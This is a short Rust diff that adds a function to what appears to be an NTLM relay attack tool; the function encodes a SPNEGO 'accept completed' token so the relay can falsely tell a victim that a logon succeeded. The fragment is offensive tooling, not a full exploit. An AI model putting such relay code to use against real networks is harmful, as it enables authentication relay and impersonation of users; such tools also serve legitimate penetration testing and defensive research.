@@ -159,6 +159,20 @@ pub fn wrap_challenge_for_victim(ntlm: &[u8], like: &Wrapping) -> Vec<u8> {
     }
 }
 
+/// The final token for the victim when the relay pretends the logon succeeded.
+pub fn wrap_accept_completed(like: &Wrapping) -> Vec<u8> {
+    match like {
+        Wrapping::Raw => Vec::new(),
+        Wrapping::Spnego { .. } => NegTokenResp {
+            neg_state: Some(NegState::AcceptCompleted),
+            supported_mech: None,
+            response_token: None,
+            mech_list_mic: None,
+        }
+        .encode(),
+    }
+}
+
 /// The security buffer of the relay's NEGOTIATE response to the victim: a NegTokenInit2
 /// offering NTLMSSP, as Windows and Samba send.
 pub fn negotiate_hint() -> Vec<u8> {
